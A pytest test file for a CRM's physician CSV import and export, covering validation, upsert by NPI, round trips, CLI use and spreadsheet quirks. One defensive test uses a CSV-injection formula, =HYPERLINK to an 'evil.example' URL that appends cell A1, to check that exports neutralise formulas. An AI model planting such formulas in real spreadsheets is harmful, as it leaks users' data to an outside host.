"""Physician CSV import/export (SPEC 9): line-level errors, upsert by NPI, round trip, CLI."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
import sqlalchemy as sa

from crm.models import AuditLog, Physician
from crm.services import physician_csv
from crm.services.physician_csv import COLUMNS, CREATE, ERROR, UNCHANGED, UPDATE
from tests.factories import ConditionFactory, PhysicianFactory, committed_meanwhile, valid_npi

NEXT_YEAR = (date.today() + timedelta(days=365)).isoformat()


def row(**overrides) -> dict[str, str]:
    base = {
        "npi": valid_npi(900),
        "first_name": "Rosa",
        "last_name": "Alvarez",
        "credential": "MD",
        "practice_name": "Bayfront Clinic",
        "street": "100 Main St",
        "city": "Miami",
        "state": "FL",
        "zip": "33101",
        "phone": "(305) 555-0100",
        "email": "Rosa@Example.com",
        "website": "https://example.com",
        "offers_in_person": "true",
        "offers_telehealth": "false",
        "languages": "en;es",
        "conditions": "",
        "accepting_new": "true",
        "active": "true",
        "priority": "2",
        "weekly_capacity": "10",
        "registrations": f"FL:ME123:{NEXT_YEAR}",
        "latitude": "25.7617",
        "longitude": "-80.1918",
    }
    base.update(overrides)
    return base


def to_csv(rows: list[dict], columns=COLUMNS) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(columns), lineterminator="\n", extrasaction="ignore")
    writer.writeheader()
    for r in rows:
        writer.writerow(r)
    return out.getvalue().encode("utf-8")


def test_valid_file_creates_then_is_unchanged(db):
    ConditionFactory(slug="dystonia", name="Dystonia")
    db.session.commit()
    data = to_csv([row(), row(npi=valid_npi(901), last_name="Baker", conditions="dystonia", latitude="", longitude="")])
    plan = physician_csv.plan_import(data)
    assert plan.counts == {CREATE: 2, UPDATE: 0, UNCHANGED: 0, ERROR: 0}, [line.errors for line in plan.lines]
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Physician)) == 0  # dry run writes nothing
    report = physician_csv.import_csv(data)
    db.session.commit()
    assert report.applied and report.ok
    rosa = db.session.scalar(sa.select(Physician).where(Physician.npi == valid_npi(900)))
    assert rosa.phone == "+13055550100" and rosa.email == "rosa@example.com" and rosa.languages == ["en", "es"]
    assert rosa.latitude == pytest.approx(25.7617) and rosa.geocode_status == "ok"
    assert [(r.state, r.number) for r in rosa.registrations] == [("FL", "ME123")]
    baker = db.session.scalar(sa.select(Physician).where(Physician.npi == valid_npi(901)))
    assert [c.slug for c in baker.conditions] == ["dystonia"]
    assert (
        db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog).where(AuditLog.action == "create_physician"))
        == 2
    )
    again = physician_csv.plan_import(data)
    assert again.counts[UNCHANGED] == 2 and not again.changes


def test_upsert_by_npi_reports_changed_fields(db):
    doc = PhysicianFactory(npi=valid_npi(900), first_name="Rosa", last_name="Alvarez")
    db.session.commit()
    report = physician_csv.import_csv(to_csv([row(accepting_new="false", priority="1")]))
    db.session.commit()
    line = report.lines[0]
    assert line.action == UPDATE and line.physician_id == doc.id
    assert {"accepting_new", "priority"} <= set(line.changes)
    db.session.refresh(doc)
    assert doc.accepting_new is False and doc.priority == 1
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Physician)) == 1


BAD_ROWS = [
    ("bad NPI", {"npi": "1234567890"}, "check digit"),
    ("short NPI", {"npi": "12345"}, "10 digits"),
    ("unknown state", {"state": "XX"}, "Unknown state"),
    ("bad ZIP", {"zip": "3310"}, "ZIP"),
    ("bad date", {"registrations": "FL:ME1:2026-13-45"}, "YYYY-MM-DD"),
    ("bad registration shape", {"registrations": "FL-ME1"}, "STATE:NUMBER:YYYY-MM-DD"),
    ("registration in unknown state", {"registrations": f"ZZ:1:{NEXT_YEAR}"}, "Unknown state"),
    ("bad boolean", {"offers_telehealth": "yes"}, "true or false"),
    ("bad priority", {"priority": "5"}, "Priority must be 1, 2 or 3"),
    ("bad credential", {"credential": "RN"}, "Credential must be one of"),
    ("unknown condition slug", {"conditions": "not-a-condition"}, "unknown condition slug"),
    ("lat without lon", {"longitude": ""}, "both latitude and longitude"),
    ("latitude out of range", {"latitude": "123", "longitude": "-80"}, "out of range"),
    ("bad email", {"email": "not-an-email"}, "email"),
    ("bad phone", {"phone": "12"}, "phone"),
    ("bad capacity", {"weekly_capacity": "many"}, "whole number"),
    ("missing name", {"first_name": ""}, "first_name: is required"),
    ("bad website", {"website": "example"}, "https://"),
    # Values PostgreSQL refuses at write time (the column's length, a NUL byte): refused per line.
    ("website too long", {"website": "https://example.com/" + "a" * 290}, "longer than 300 characters"),
    ("NUL byte", {"city": "Mia\x00mi"}, "city: contains a control character"),
    ("control character", {"practice_name": "Bay\x07front"}, "practice_name: contains a control character"),
]


def test_each_bad_line_is_reported_and_good_lines_go_in(db):
    good_first = row(npi=valid_npi(800), last_name="Good1")
    rows = [good_first]
    for i, (_, overrides, _) in enumerate(BAD_ROWS):
        rows.append(row(npi=overrides.pop("npi", valid_npi(700 + i)), last_name=f"Bad{i}", **overrides))
    rows.append(row(npi=valid_npi(800), last_name="DuplicateOfLine2"))  # duplicate NPI in the file
    rows.append(row(npi=valid_npi(801), last_name="Good2"))
    data = to_csv(rows)
    report = physician_csv.import_csv(data)
    db.session.commit()

    by_line = {line.line: line for line in report.lines}
    assert by_line[2].action == CREATE
    for i, (kind, _, needle) in enumerate(BAD_ROWS):
        line = by_line[3 + i]
        assert line.action == ERROR, kind
        assert needle.lower() in line.message.lower(), (kind, line.message)
    dup = by_line[3 + len(BAD_ROWS)]
    assert dup.action == ERROR and "already on line 2" in dup.message
    assert by_line[4 + len(BAD_ROWS)].action == CREATE
    names = set(db.session.scalars(sa.select(Physician.last_name)))
    assert names == {"Good1", "Good2"}
    assert report.counts[ERROR] == len(BAD_ROWS) + 1


def test_wrong_number_of_fields_is_a_line_error(db):
    data = to_csv([row()]) + b"1234,too,short\n"
    report = physician_csv.plan_import(data)
    assert report.lines[0].action == CREATE
    assert report.lines[1].action == ERROR and report.lines[1].line == 3 and "field(s)" in report.lines[1].message


def test_multiline_quoted_field_keeps_line_numbers(db):
    first = row(practice_name="Clinic\nsecond line")
    data = to_csv([first, row(npi=valid_npi(902), state="ZZ")])
    report = physician_csv.plan_import(data)
    assert [line.line for line in report.lines] == [2, 4]
    assert report.lines[1].action == ERROR


def test_an_unclosed_quote_is_reported_with_the_lines_it_swallowed(db):
    good = to_csv([row()]).decode()
    broken = good.splitlines()[1].replace("Bayfront Clinic", '"Bayfront Clinic')  # the quote never closes
    data = (good + broken + "\n" + to_csv([row(npi=valid_npi(903))]).decode().splitlines()[1] + "\n").encode()
    report = physician_csv.plan_import(data)
    assert [line.action for line in report.lines] == [CREATE, ERROR]
    message = report.lines[1].message
    assert report.lines[1].line == 3 and "quote opened on line 3 is not closed" in message and "lines 3-4" in message


def test_an_unclosed_quote_early_in_a_big_file_names_every_line_it_swallowed(db):
    """Past the csv module's 128 KiB cell limit, the open quote was reported as 'field larger than
    field limit' and the reader resumed mid-file: some 700 lines were skipped without a word."""
    rows = [row(npi=valid_npi(1000 + i), languages="en", practice_name="PLACEHOLDER") for i in range(3000)]
    data = to_csv(rows).replace(b"PLACEHOLDER", b'"Bay Front', 1).replace(b"PLACEHOLDER", b"Clinic")
    assert len(data) > 131072
    report = physician_csv.plan_import(data)
    assert [line.line for line in report.errors] == [2]
    assert "a quote opened on line 2 is not closed, so lines 2-3001 were read as one record" in report.errors[0].message
    assert report.counts[CREATE] == 0


def test_missing_column_is_a_file_error(db):
    columns = [c for c in COLUMNS if c != "zip"]
    report = physician_csv.plan_import(to_csv([row()], columns=columns))
    assert report.file_error and "missing column(s): zip" in report.file_error
    assert not report.lines


def test_unknown_column_is_a_file_error(db):
    data = to_csv([row()]).replace(b"weekly_capacity", b"weekly_capacty", 1)
    report = physician_csv.plan_import(data)
    assert "unknown column(s)" in report.file_error and "weekly_capacty" in report.file_error


def test_a_header_typed_by_hand_with_spaces_case_and_another_order_is_read(db):
    columns = list(reversed(COLUMNS))
    data = to_csv([row()], columns=columns).decode()
    rest = data.split("\n", 1)[1]
    # "First Name" and "OFFERS-TELEHEALTH", alternately.
    typed = ",".join(
        c.replace("_", " ").title() if i % 2 else c.upper().replace("_", "-") for i, c in enumerate(columns)
    )
    report = physician_csv.plan_import((typed + "\n" + rest).encode())
    assert report.file_error is None and report.counts[CREATE] == 1, report.file_error
    assert report.lines[0].data.first_name == "Rosa" and report.lines[0].data.offers_telehealth is False


def test_non_utf8_file_gives_a_clear_error(db):
    data = to_csv([row(first_name="José")]).decode().encode("latin-1")
    report = physician_csv.import_csv(data)
    assert report.file_error and "not UTF-8" in report.file_error and "CSV UTF-8" in report.file_error
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Physician)) == 0


def test_empty_file_and_bom(db):
    assert "empty" in physician_csv.plan_import(b"").file_error
    bom = b"\xef\xbb\xbf" + to_csv([row()])
    assert physician_csv.plan_import(bom).counts[CREATE] == 1


def test_optional_coordinate_columns_may_be_left_out(db, monkeypatch):
    import sys
    import types

    calls = []
    fake = types.ModuleType("crm.services.geocoding")

    def geocode_physician(p, *args, **kwargs):
        calls.append(p.npi)
        p.latitude, p.longitude, p.geocode_status = 25.77, -80.19, "ok"
        return True

    fake.geocode_physician = geocode_physician
    monkeypatch.setitem(sys.modules, "crm.services.geocoding", fake)
    columns = [c for c in COLUMNS if c not in ("latitude", "longitude")]
    report = physician_csv.import_csv(to_csv([row()], columns=columns))
    assert report.ok and calls == [valid_npi(900)]
    # Coordinates given: no geocoding.
    physician_csv.import_csv(to_csv([row(npi=valid_npi(903))]))
    assert calls == [valid_npi(900)]


def test_export_then_import_reports_no_changes(db):
    cond = ConditionFactory(slug="chronic-pain")
    doc = PhysicianFactory(registered_in=["FL", "GA"], languages=["en", "es"], phone="+13055550100")
    doc.conditions = [cond]
    PhysicianFactory(active=False, accepting_new=False, offers_telehealth=True, latitude=None, longitude=None)
    PhysicianFactory(practice_name='Quotes "and", commas', street="1 Long\nRoad")
    db.session.commit()
    text, count = physician_csv.export_csv()
    assert count == 3
    header = text.splitlines()[0]
    assert header == ",".join(COLUMNS)
    report = physician_csv.import_csv(text.encode("utf-8"))
    assert report.counts == {CREATE: 0, UPDATE: 0, UNCHANGED: 3, ERROR: 0}, [
        (x.line, x.errors, x.changes) for x in report.lines
    ]


def test_export_cells_cannot_start_a_formula_and_import_reads_them_back(db):
    """OWASP CSV injection: a cell a spreadsheet would run gets a leading quote on export; the
    import removes exactly that quote, so export -> import is still lossless."""
    PhysicianFactory(
        npi=valid_npi(950),
        first_name="-Dana",
        practice_name='=HYPERLINK("http://evil.example/?x="&A1,"Open")',
        street="@SUM(1+1)",
        city="'=already quoted",  # a value that starts with the quote itself comes back too
        phone="+13055550100",  # E.164: quoted like any "+" cell, as OWASP advises
        email="dana@example.com",
    )
    PhysicianFactory(npi=valid_npi(951), practice_name="'Ohana Clinic", longitude=-155.5)
    db.session.commit()
    text, _ = physician_csv.export_csv()
    cells = {r["npi"]: r for r in csv.DictReader(io.StringIO(text))}
    doc = cells[valid_npi(950)]
    assert doc["first_name"] == "'-Dana"
    assert doc["practice_name"].startswith("'=HYPERLINK(")
    assert doc["street"] == "'@SUM(1+1)"
    assert doc["city"] == "''=already quoted"
    assert doc["phone"] == "'+13055550100"
    other = cells[valid_npi(951)]
    assert other["practice_name"] == "'Ohana Clinic"  # no formula: left as it is
    assert other["longitude"] == "-155.500000"  # a plain number stays a number
    for r in cells.values():
        for name, value in r.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
            assert not value.startswith("-") or name in ("latitude", "longitude"), (name, value)

    report = physician_csv.import_csv(text.encode("utf-8"))
    assert report.counts[UNCHANGED] == 2, [(x.line, x.errors, x.changes) for x in report.lines]
    db.session.commit()
    back = db.session.scalar(sa.select(Physician).where(Physician.npi == valid_npi(950)))
    assert (back.first_name, back.street, back.city, back.phone) == (
        "-Dana",
        "@SUM(1+1)",
        "'=already quoted",
        "+13055550100",
    )


def test_a_hand_made_file_with_quoted_phone_numbers_imports(db):
    """People quote a phone by hand to keep a spreadsheet from eating its '+'."""
    report = physician_csv.import_csv(to_csv([row(phone="'+13055550100", practice_name="'Ohana Clinic")]))
    assert report.counts[CREATE] == 1, [x.errors for x in report.lines]
    doc = db.session.scalar(sa.select(Physician))
    assert (doc.phone, doc.practice_name) == ("+13055550100", "'Ohana Clinic")


def test_registration_numbers_survive_export_and_import(db):
    """';' separates registrations in the CSV, so a number may not contain it; ':' is fine."""
    from crm.services import directory

    with pytest.raises(ValueError, match="cannot contain ';'"):
        directory.clean_registration("FL", "FL-1;2", NEXT_YEAR)
    doc = PhysicianFactory(registered_in=["FL", "GA"])
    doc.registrations[0].number = "FL:1/2"
    db.session.commit()
    text, _ = physician_csv.export_csv()
    report = physician_csv.plan_import(text.encode("utf-8"))
    assert report.counts[UNCHANGED] == 1, [line.errors + line.changes for line in report.lines]


def test_changed_address_with_the_exported_coordinates_is_geocoded_again(db):
    """Export, move a physician to another state and ZIP, import: the exported coordinates are the
    old address's, so the new address is geocoded (the preview says so); coordinates changed in the
    file as well are used as given."""
    moved = PhysicianFactory(npi=valid_npi(900))  # Miami, 33101
    typed = PhysicianFactory(npi=valid_npi(901))
    db.session.commit()
    text, _ = physician_csv.export_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    for r in rows:
        r.update(state="GA", city="Atlanta", zip="30303", registrations=f"GA:GA-1:{NEXT_YEAR}")
    rows[1].update(latitude="33.700000", longitude="-84.400000")
    data = to_csv(rows)

    plan = physician_csv.plan_import(data)
    first, second = plan.lines
    assert first.action == UPDATE and {"state", "zip", "city"} <= set(first.changes)
    assert first.geocode.startswith("new address geocoded") and second.geocode == ""
    physician_csv.apply_import(physician_csv.plan_import(data))
    db.session.commit()
    db.session.refresh(moved)
    db.session.refresh(typed)
    assert moved.latitude == pytest.approx(33.75, abs=0.1) and moved.longitude == pytest.approx(-84.39, abs=0.1)
    assert moved.geocode_status == "ok" and moved.geocode_precision == "zip"
    assert (typed.latitude, typed.longitude) == (pytest.approx(33.7), pytest.approx(-84.4))
    assert typed.geocode_precision == "rooftop"
    # Exported again and imported unchanged: nothing is geocoded.
    text, _ = physician_csv.export_csv()
    again = physician_csv.plan_import(text.encode("utf-8"))
    assert again.counts[UNCHANGED] == 2 and not any(line.geocode for line in again.lines)


def test_registrations_are_replaced_and_renewal_resets_warning(db):
    from datetime import UTC, datetime

    doc = PhysicianFactory(npi=valid_npi(900), registered_in=["FL", "GA"])
    fl = next(r for r in doc.registrations if r.state == "FL")
    fl.expiry_warned_at = datetime.now(UTC)
    db.session.commit()
    later = (date.today() + timedelta(days=700)).isoformat()
    report = physician_csv.import_csv(to_csv([row(registrations=f"FL:NEW-1:{later};NY:NY-9:{later}")]))
    db.session.commit()
    assert report.lines[0].action == UPDATE and "registrations" in report.lines[0].changes
    db.session.refresh(doc)
    regs = {r.state: r for r in doc.registrations}
    assert set(regs) == {"FL", "NY"}
    assert regs["FL"].number == "NEW-1" and regs["FL"].expiry_warned_at is None


def test_cli_import_dry_run_and_errors(app, db, tmp_path):
    good = tmp_path / "good.csv"
    good.write_bytes(to_csv([row()]))
    runner = app.test_cli_runner()
    dry = runner.invoke(args=["crm", "physicians", "import", str(good), "--dry-run", "-v"])
    assert dry.exit_code == 0, dry.output
    assert "1 would be created" in dry.output
    assert f"line 2: create {valid_npi(900)} Rosa Alvarez (new physician)" in dry.output
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Physician)) == 0
    done = runner.invoke(args=["crm", "physicians", "import", str(good)])
    assert done.exit_code == 0 and "1 created" in done.output
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Physician)) == 1

    bad = tmp_path / "bad.csv"
    bad.write_bytes(to_csv([row(npi=valid_npi(904)), row(npi="1234567890")]))
    result = runner.invoke(args=["crm", "physicians", "import", str(bad)])
    assert result.exit_code == 1
    assert "line 3" in result.stderr and "check digit" in result.stderr
    assert "1 created" in result.stdout
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Physician)) == 2

    latin = tmp_path / "latin.csv"
    latin.write_bytes(to_csv([row(first_name="José")]).decode().encode("latin-1"))
    result = runner.invoke(args=["crm", "physicians", "import", str(latin)])
    assert result.exit_code == 1 and "not UTF-8" in result.stderr


def test_cli_export_round_trip(app, db, tmp_path):
    PhysicianFactory.create_batch(3)
    db.session.commit()
    out = tmp_path / "out.csv"
    runner = app.test_cli_runner()
    result = runner.invoke(args=["crm", "physicians", "export", str(out)])
    assert result.exit_code == 0 and "3 physicians" in result.output
    assert out.read_text().startswith("npi,first_name")
    again = runner.invoke(args=["crm", "physicians", "import", str(out), "--dry-run"])
    assert again.exit_code == 0 and "3 unchanged" in again.output
    exported = db.session.scalar(sa.select(AuditLog).where(AuditLog.action == "export"))
    assert exported.object_type == "physician" and exported.detail["via"] == "cli"


def test_write_time_failure_affects_only_its_line(db):
    """A line that passes the plan but fails in the database (a concurrent insert) is rolled back alone."""
    data = to_csv(
        [
            row(npi=valid_npi(910), last_name="First"),
            row(npi=valid_npi(911), last_name="Racer"),
            row(npi=valid_npi(912), last_name="Third"),
        ]
    )
    report = physician_csv.plan_import(data)
    assert report.counts[CREATE] == 3
    PhysicianFactory(npi=valid_npi(911), last_name="GotThereFirst")  # arrives between preview and commit
    db.session.commit()
    physician_csv.apply_import(report)
    db.session.commit()
    actions = {line.line: line.action for line in report.lines}
    assert actions == {2: CREATE, 3: ERROR, 4: CREATE}
    assert "Not saved" in report.lines[1].message
    assert set(db.session.scalars(sa.select(Physician.last_name))) == {"First", "GotThereFirst", "Third"}
    summary = db.session.scalar(sa.select(AuditLog).where(AuditLog.action == "import_physicians"))
    assert summary.detail["counts"][ERROR] == 1 and summary.detail["planned"][ERROR] == 0


def test_a_database_refusal_fails_only_its_line(db, monkeypatch):
    """Whatever the database refuses at write time (not only a duplicate NPI) is that line's error."""
    from sqlalchemy.exc import DataError

    from crm.services import directory

    real_save = directory.save_physician

    def save(data, *args, **kwargs):
        result = real_save(data, *args, **kwargs)  # flushed inside the line's savepoint
        if data.last_name == "Refused":
            raise DataError("INSERT INTO physicians ...", {}, Exception("value too long for type character varying"))
        return result

    monkeypatch.setattr(directory, "save_physician", save)
    data = to_csv(
        [
            row(npi=valid_npi(920), last_name="First"),
            row(npi=valid_npi(921), last_name="Refused"),
            row(npi=valid_npi(922), last_name="Third"),
        ]
    )
    report = physician_csv.import_csv(data)
    db.session.commit()
    assert {line.line: line.action for line in report.lines} == {2: CREATE, 3: ERROR, 4: CREATE}
    assert report.lines[1].message == "Not saved: value too long for type character varying"
    assert set(db.session.scalars(sa.select(Physician.last_name))) == {"First", "Third"}


def test_cli_import_reports_a_nul_byte_as_its_line(app, db, tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(to_csv([row(npi=valid_npi(930), city="Mia\x00mi"), row(npi=valid_npi(931), last_name="Fine")]))
    result = app.test_cli_runner().invoke(args=["crm", "physicians", "import", str(path)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)  # a report, not a traceback
    assert "line 2" in result.stderr and "control character" in result.stderr
    assert "1 created" in result.stdout
    assert list(db.session.scalars(sa.select(Physician.last_name))) == ["Fine"]


def test_a_semicolon_separated_file_is_read_as_such(db):
    """A spreadsheet in a European locale saves "CSV" with semicolons (and quotes the list cells)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(COLUMNS), delimiter=";", lineterminator="\r\n")
    writer.writeheader()
    writer.writerow(row(languages="en;es"))
    writer.writerow(row(npi=valid_npi(901), registrations=f"FL:ME1:{NEXT_YEAR};GA:G2:{NEXT_YEAR}"))
    report = physician_csv.plan_import(out.getvalue().encode("utf-8"))
    assert report.file_error is None and report.counts[CREATE] == 2 and not report.errors
    assert report.lines[0].data.languages == ["en", "es"]
    assert report.lines[1].data.registrations[1].number == "G2"
    assert [r.state for r in report.lines[1].data.registrations] == ["FL", "GA"]
    assert any("semicolons" in note for note in report.notes)
    # An ordinary file says nothing about how it was read.
    assert physician_csv.plan_import(to_csv([row()])).notes == []


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_file_with_cr_line_ends_is_read(db, separator):
    """Excel for Mac's "CSV (Macintosh)" ends lines with CR alone."""
    data = to_csv([row(languages="en"), row(npi=valid_npi(901), languages="en")]).decode()
    report = physician_csv.plan_import(data.replace(",", separator).replace("\n", "\r").encode())
    assert report.file_error is None and report.counts[CREATE] == 2 and not report.errors


def test_stray_empty_columns_saved_by_a_spreadsheet_are_ignored(db):
    """A spreadsheet saves a trailing empty column (header and every line end in a comma)."""
    lines = to_csv([row(), row(npi=valid_npi(901))]).decode().splitlines()
    data = ("\r\n".join(line + ",," for line in lines) + "\r\n").encode()
    report = physician_csv.plan_import(data)
    assert report.file_error is None and report.counts[CREATE] == 2 and not report.errors
    assert any("without a name" in note for note in report.notes)
    # A value under a nameless column is not dropped silently: its line is reported.
    lines[2] += ",,oops"
    padded = [line if i == 2 else line + ",," for i, line in enumerate(lines)]
    report = physician_csv.plan_import("\n".join(padded).encode())
    assert report.counts[CREATE] == 1
    assert report.errors[0].line == 3 and "column(s) 25" in report.errors[0].message


def test_deactivating_by_csv_says_which_physicians_keep_upcoming_appointments(app, db, tmp_path):
    from datetime import UTC, datetime

    from crm.models import Appointment
    from crm.models.enums import VisitMode
    from tests.factories import LeadFactory

    doc = PhysicianFactory()
    db.session.add(
        Appointment(
            lead=LeadFactory(), physician=doc, starts_at=datetime.now(UTC) + timedelta(days=3), mode=VisitMode.IN_PERSON
        )
    )
    db.session.commit()
    text, _ = physician_csv.export_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    rows[0]["active"] = "false"
    data = to_csv(rows).decode()
    report = physician_csv.plan_import(data.encode())
    assert report.counts[UPDATE] == 1 and report.lines[0].changes == ["active"]
    assert "deactivated with 1 upcoming appointment, which stays booked: rebook or cancel it" in report.lines[0].warning
    path = tmp_path / "off.csv"
    path.write_text(data)
    result = app.test_cli_runner().invoke(args=["crm", "physicians", "import", str(path), "--dry-run"])
    assert f"line 2: {doc.npi}" in result.stderr and "1 upcoming appointment, which stays" in result.stderr


def test_a_zip_in_another_state_is_a_line_error(db):
    report = physician_csv.plan_import(to_csv([row(state="GA", zip="33101", registrations="")]))
    assert "zip: ZIP 33101 is in FL, not GA" in report.errors[0].message


def test_a_zip_that_lost_its_leading_zero_in_a_spreadsheet(db):
    boston = row(zip="2108", city="Boston", state="MA", latitude="", longitude="", registrations="")
    report = physician_csv.plan_import(to_csv([boston]))
    assert not report.errors and report.lines[0].data.zip == "02108"
    # Padded only where the ZIP lies in the line's state: a typo is not turned into another state's ZIP.
    typo = row(zip="3310", state="FL", latitude="", longitude="")
    report = physician_csv.plan_import(to_csv([typo]))
    assert "leading zeros" in report.errors[0].message


def test_cli_import_says_how_a_semicolon_file_was_read(app, db, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes(to_csv([row(languages="en")]).decode().replace(",", ";").encode())
    result = app.test_cli_runner().invoke(args=["crm", "physicians", "import", str(path), "--dry-run"])
    assert result.exit_code == 0 and "1 would be created" in result.stdout
    assert "Note: The file is separated by semicolons" in result.stderr


def test_a_cell_of_many_quotes_is_a_plain_value_not_a_crash(db):
    """A crafted cell of thousands of apostrophes used to end the import in RecursionError; it is
    now a line error like any other overlong value."""
    quotes = "'" * 5000
    report = physician_csv.plan_import(to_csv([row(practice_name=quotes + "=1+1"), row(npi=valid_npi(952))]))
    assert [x.errors for x in report.lines] == [["practice_name: is longer than 200 characters."], []]
    from crm.services.spreadsheet import restore

    assert restore(quotes + "=1+1") == quotes[1:] + "=1+1"


def test_the_preview_refuses_the_control_characters_the_import_refuses(db):
    """A tab or a C1 control in a name planned as "create" and was then refused on import."""
    data = to_csv([row(first_name="Ro\tsa"), row(npi=valid_npi(901), last_name="Al\x85varez"), row(npi=valid_npi(902))])
    report = physician_csv.plan_import(data)
    assert [r.line for r in report.errors] == [2, 3]
    assert all("control character" in " ".join(r.errors) for r in report.errors)
    assert len(report.changes) == 1
    assert "Line 2: first_name: It contains a control character" in physician_csv.error_lines_csv(data)


def test_the_error_lines_keep_every_cell_of_the_line(db):
    """An unquoted comma splits a cell: the extra cell was dropped from the download, and a value in a
    column without a name (the error itself) too; an exported "'@Home" came back as "''@Home"."""
    header = ",".join(COLUMNS) + ",\n"  # and a column without a name, as spreadsheets save
    good = ",".join(row().values()) + ",\n"
    split = ",".join(row(npi=valid_npi(901), practice_name="Bayfront, Clinic").values()) + ",\n"
    stray = ",".join(row(npi=valid_npi(902)).values()) + ",note\n"
    lines = list(csv.reader(io.StringIO(physician_csv.error_lines_csv((header + good + split + stray).encode()))))
    assert lines[0][0] == "import_errors" and lines[0][-1] == "" and len(lines) == 3
    assert lines[1][0].startswith("Line 3: ") and lines[1][1:] == split.strip().split(",")  # all 25 cells
    assert lines[2][0].startswith("Line 4: ") and lines[2][-1] == "note"
    exported = to_csv([row(npi="1", practice_name="'@Home Care")])
    line = physician_csv.error_lines_csv(exported).splitlines()[1]
    assert ",'@Home Care," in line and "''@Home" not in line


# --- QA walkthrough, December 2026 ----------------------------------------------------------------


def test_an_npi_with_spaces_or_dashes_is_read_as_its_digits(db):
    npi = valid_npi(920)
    report = physician_csv.import_csv(to_csv([row(npi=f"{npi[:3]} {npi[3:6]}-{npi[6:]}")]))
    assert report.counts[CREATE] == 1, report.lines[0].errors
    assert db.session.scalar(sa.select(Physician.npi)) == npi
    # Typed either way in a second file, it is the same physician.
    again = physician_csv.plan_import(to_csv([row(npi=f"{npi[:5]}-{npi[5:]}")]))
    assert again.counts[UNCHANGED] == 1
    dotted = physician_csv.plan_import(to_csv([row(npi=f"{npi[:5]}.{npi[5:]}")]))
    assert dotted.counts[ERROR] == 1 and "10 digits" in dotted.lines[0].message


def test_a_line_with_too_few_cells_is_reported_with_its_names(db):
    data = to_csv([row()]) + f"{valid_npi(921)},Ana,Short,MD\n".encode() + b"1,,,\n"
    report = physician_csv.plan_import(data)
    bad = {line.line: line for line in report.errors}
    assert bad[3].name == "Ana Short" and "Has 4 field(s)" in bad[3].message
    assert bad[4].name == ""  # nothing to show: the page says "—"


def test_an_already_expired_registration_is_imported_with_a_warning(db):
    fresh = row(npi=valid_npi(922), registrations="CO:CO-1:2020-01-01")
    report = physician_csv.plan_import(to_csv([row(), fresh]))
    assert report.counts[CREATE] == 2
    assert report.lines[0].warning == ""
    assert "registration already expired: CO CO-1 expired on 2020-01-01" in report.lines[1].warning
    physician_csv.apply_import(report)
    db.session.commit()
    # Unchanged on a second import: nothing written, nothing to warn about.
    again = physician_csv.plan_import(to_csv([row(), fresh]))
    assert again.counts[UNCHANGED] == 2 and not any(line.warning for line in again.lines)


def test_an_update_by_csv_records_old_and_new_values(db):
    physician_csv.import_csv(to_csv([row()]))
    db.session.commit()
    report = physician_csv.plan_import(to_csv([row(phone="", street="", priority="1")]))
    line = report.lines[0]
    assert line.action == UPDATE
    assert line.diff["phone"] == ["+13055550100", ""] and line.diff["street"] == ["100 Main St", ""]
    assert line.diff["priority"] == [2, 1]
    physician_csv.apply_import(report)
    db.session.commit()
    entry = db.session.scalar(sa.select(AuditLog).where(AuditLog.action == "update_physician"))
    assert entry.detail["via"] == "csv" and entry.detail["changes"]["phone"] == ["+13055550100", ""]
    summary = db.session.scalar(sa.select(AuditLog).where(AuditLog.action == "import_physicians"))
    assert summary.object_type == "physician"  # one spelling of the type in the audit trail


def test_the_error_lines_of_a_committed_import_include_its_write_time_refusals(db):
    data = to_csv([row(npi=valid_npi(930), last_name="First"), row(npi=valid_npi(931), last_name="Racer")])
    report = physician_csv.plan_import(data)
    PhysicianFactory(npi=valid_npi(931), last_name="GotThereFirst")
    db.session.commit()
    physician_csv.apply_import(report)
    rows = list(csv.reader(io.StringIO(physician_csv.error_lines_csv(data, report).lstrip("\ufeff"))))
    # Read as CSV: PostgreSQL's message quotes the constraint's name, so the cell is quoted.
    assert len(rows) == 2 and rows[1][0].startswith("Line 3: Not saved") and "Racer" in rows[1]


def test_a_line_whose_npi_another_save_added_meanwhile_says_so_in_words(db):
    """Two imports (or an import and the form) adding one NPI at once: the line that loses is reported
    in words, not with the database's "UNIQUE constraint failed"; the other lines go in."""
    data = to_csv([row(), row(npi=valid_npi(901), last_name="Baker")])
    with committed_meanwhile(lambda: PhysicianFactory.build(npi=valid_npi(900), last_name="Meanwhile")):
        report = physician_csv.import_csv(data)
    db.session.commit()
    (lost,) = [line for line in report.lines if line.action == ERROR]
    assert lost.npi == valid_npi(900) and lost.errors == [
        f"Not saved: NPI {valid_npi(900)} was added by another import or save while this one ran; "
        "import the file again to update that physician."
    ]
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Physician)) == 2
